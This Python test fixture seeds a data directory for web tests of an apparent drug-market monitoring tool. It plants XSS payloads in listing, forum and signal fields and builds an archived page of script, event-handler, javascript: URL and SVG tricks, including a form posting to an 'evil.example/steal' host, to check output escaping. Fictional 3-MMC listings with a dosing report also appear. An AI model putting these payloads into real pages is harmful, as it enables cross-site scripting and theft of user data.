"""A small workbench data dir for the web tests, with hostile content planted in every crawled field.

Invented market "Kestrel Market" (source ``tulip_bazaar``, so the sources page has its file) and forum; listings
observed over four days with changing prices, each day's page archived in a WARC file; one archived page full of
scripts, event handlers, ``javascript:`` URLs, CSS and SVG tricks; signals (a spike with evidence, a source-health
signal); runs in the run history; users of every role.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from scrapy.http import HtmlResponse, Request, Response

from crawlers.items import Listing, Post, Price, Vendor, item_to_document
from crawlers.warc import RotatingWarcWriter
from health.history import RunHistory
from signals.model import Evidence, Signal
from signals.store import open_store
from storage.sqlite import SqliteStorage
from web.accounts import Accounts

# Every payload must stay inert text wherever it is shown.
XSS = [
    '<script>alert("xss-script")</script>',
    '"><img src=x onerror=alert("xss-img")>',
    "javascript:alert('xss-url')",
    '<svg onload=alert("xss-svg")><script>alert("xss-svg2")</script></svg>',
    "<style>body{background:url(https://evil.example/css)}</style>",
    "</textarea><iframe src=javascript:alert('xss-frame')></iframe>",
    "{{7*7}}${7*7}",
]
HOSTILE = " ".join(XSS)
VENDOR = "Vendor<b>Nightjar</b>"  # real names researchers must never see
AUTHOR = "Author Sandpiper"
PASSWORD = "correct horse battery staple"
USERS = {"admin1": "admin", "alice": "analyst", "erin": "ews", "rhea": "researcher"}
DAYS = ["2026-10-01", "2026-10-02", "2026-10-03", "2026-10-04"]

HOSTILE_PAGE = f"""<!doctype html><html><head><title>archived {XSS[0]}</title>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert('xss-meta')">
<link rel="stylesheet" href="https://evil.example/style.css">
<script src="https://evil.example/x.js"></script>
<style>@import url(https://evil.example/i.css); body {{ background: url(https://evil.example/bg.png) }}</style>
</head><body onload="alert('xss-body')">
<h1 id="archived-title">3-MMC crystals 10g by {VENDOR}</h1>
<p>Price: 45 EUR. <a href="javascript:alert('xss-link')">pay</a> <a href="/item.php?id=2">other listing</a></p>
<img src="https://evil.example/track.png" onerror="alert('xss-onerror')" alt="product photo">
<img src="/img/pill.png" alt="pill">
<svg><script>alert('xss-svg-script')</script><a xlink:href="javascript:alert('xss-xlink')"><text>x</text></a>
<animate attributeName="href" values="javascript:alert('xss-animate')"/></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object>
<form action="https://evil.example/steal"><input name="q"><button formaction="javascript:alert(1)">go</button></form>
<div style="background-image:url(https://evil.example/div.png)">styled</div>
<!-- a comment <script>alert('xss-comment')</script> -->
</body></html>"""
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f00"
    "05000201a8a5d3e30000000049454e44ae426082"
)  # a 1x1 image


@dataclass
class Site:
    data: Path
    db: Path
    listing_id: str
    hostile_id: str
    post_id: str
    record_ids: list[str] = field(default_factory=list)
    hostile_record: str = ""
    signal_id: str = ""
    documents: list[dict[str, Any]] = field(default_factory=list)


def _archive(writer: RotatingWarcWriter, url: str, body: bytes, content_type: str = "text/html") -> str:
    request = Request(url)
    cls = HtmlResponse if content_type.startswith("text/html") else Response
    return writer.write(request, cls(url, body=body, headers={"Content-Type": content_type}, request=request))


def listing(native: str, day: str, amount: str, record: str, **fields: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "source": "tulip_bazaar", "market": "Kestrel Market", "url": f"http://kestrel.test/item.php?id={native}",
        "title": "3-MMC crystals 10g", "description": "Pure 3-MMC crystals, 10g for 45 EUR. Lab tested.",
        "category": ["Stimulants"], "vendor": "chemlab", "prices": [Price(Decimal(amount), "EUR", f"€{amount}", "10g")],
        "ships_from": "NL", "ships_to": ["EU"], "warc_record_id": record,
    }  # fmt: skip
    values.update(fields)
    doc = item_to_document(Listing(native_id=native, seen_at=f"{day}T12:00:00Z", **values))
    grams = float(amount) / 10
    return {**doc, "substance": ["3-MMC"], "chemical_group": ["synthetic cathinone"], "language": "en",
            "offers": [{"eur_per_gram": grams, "price_amount": float(amount), "price_currency": "EUR"}],
            "eur_per_gram": grams, "novel_substance": []}  # fmt: skip


def build(data: Path) -> Site:
    """The data dir: store, WARC files, signal store, run history and accounts."""
    db = data / "npswatch.sqlite3"
    writer = RotatingWarcWriter(data / "warc" / "tulip_bazaar", "tulip_bazaar", 100 << 20)
    records = []
    docs: list[dict[str, Any]] = []
    with SqliteStorage(db) as store:
        for n, (day, amount) in enumerate(zip(DAYS, ["45.00", "44.00", "40.00", "38.00"], strict=True)):
            page = f"<html><body><h1>3-MMC crystals 10g</h1><p>{amount} EUR, day {n}</p></body></html>".encode()
            records.append(_archive(writer, "http://kestrel.test/item.php?id=1", page))
            docs.append(listing("1", day, amount, records[-1]))
            store.write([docs[-1]])
        _archive(writer, "http://kestrel.test/img/pill.png", PNG, "image/png")
        other = _archive(writer, "http://kestrel.test/item.php?id=2", b"<html><body>other listing</body></html>")
        hostile_record = _archive(writer, "http://kestrel.test/item.php?id=666", HOSTILE_PAGE.encode())
        hostile = listing("666", DAYS[-1], "50.00", hostile_record, title=f"3-MMC {HOSTILE}", description=HOSTILE,
                          vendor=VENDOR, category=[HOSTILE], ships_from=HOSTILE, market="Kestrel Market",
                          url=f"http://kestrel.test/item.php?id=666&x={XSS[2]}",
                          vendor_url=f"http://kestrel.test/vendor.php?u={VENDOR}")  # fmt: skip
        hostile["novel_substance"] = ["3-CPMC"]
        post = {**item_to_document(Post(
            source="lowlands_forum", forum=f"Heron Forum {XSS[0]}", board=HOSTILE, thread_id="7",
            thread_title=f"3-MMC trip {XSS[1]}", post_id="70", url="http://heron.test/t/7#p70", author=AUTHOR,
            text=f"Took 20 mg of 3-MMC insufflated, bought from {VENDOR}. Palpitations after. {HOSTILE}",
            seen_at=f"{DAYS[-1]}T13:00:00Z", posted_at=f"{DAYS[-1]}T08:00:00Z", warc_record_id=other,
        )), "substance": ["3-MMC"], "adverse_effect": ["palpitations"], "language": "en"}  # fmt: skip
        vendor = item_to_document(Vendor(source="tulip_bazaar", name=VENDOR, url="http://kestrel.test/vendor.php",
                                         seen_at=f"{DAYS[-1]}T12:00:00Z", pgp_fingerprint="ABCD" * 10))  # fmt: skip
        store.write([hostile, post, vendor])
        docs += [hostile, post, vendor]
    writer.close()
    site = Site(data, db, docs[0]["id"], hostile["id"], post["id"], records, hostile_record, documents=docs)
    _signals(site)
    _runs(data)
    accounts = Accounts(data / "users.sqlite3")
    for name, role in USERS.items():
        accounts.add_user(name, role, PASSWORD)
    return site


def _signals(site: Site) -> None:
    spike = Signal("spike", "3-MMC", DAYS[1], DAYS[-1], "high", f"3-MMC listings rose {XSS[0]}",
                   markets=["Kestrel Market"], sources=["tulip_bazaar"], counts={"listings": 2},
                   evidence=[Evidence(site.hostile_id, "listing", "http://kestrel.test/item.php?id=666",
                                      f"{DAYS[-1]}T12:00:00Z", site.hostile_record)])  # fmt: skip
    down = Signal("source_down", "tulip_bazaar", DAYS[-1], DAYS[-1], "medium", "2 failed crawls in a row",
                  detector="health", sources=["tulip_bazaar"])  # fmt: skip
    with open_store(site.db, site.data) as kept:
        kept.put([spike, down])
    site.signal_id = spike.id


def _runs(data: Path) -> None:
    history = RunHistory(data / "runs.sqlite3")
    for day in DAYS:
        when = datetime.fromisoformat(f"{day}T12:00:00+00:00").astimezone(UTC)
        run = history.start("tulip_bazaar", day, when)
        history.finish(run, result="ok", exit_code=0, report={"pages": 12, "items": {"listing": 5}}, when=when)
